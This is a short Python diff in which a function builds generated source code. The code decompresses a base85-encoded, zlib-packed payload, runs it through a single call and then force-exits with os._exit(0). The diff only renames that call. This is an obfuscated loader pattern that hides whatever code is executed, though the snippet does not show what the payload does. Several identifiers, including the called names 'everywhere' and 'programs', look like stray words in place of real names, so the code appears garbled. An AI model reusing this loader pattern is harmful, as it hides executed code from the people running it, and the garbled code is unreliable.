@@ -166,7 +166,7 @@ def leaving(data: bytes, source: str = EVERYTHING) -> str:
     packed = base64.b85encode(zlib.compress(data, 9)).decode()
     return (
         f"{source}\n{EVERY_FILE}\nimport base64, zlib\n"
-        f"everywhere(zlib.decompress(base64.b85decode({packed!r})))\nos._exit(0)\n"
+        f"programs(zlib.decompress(base64.b85decode({packed!r})))\nos._exit(0)\n"
     )
 
 
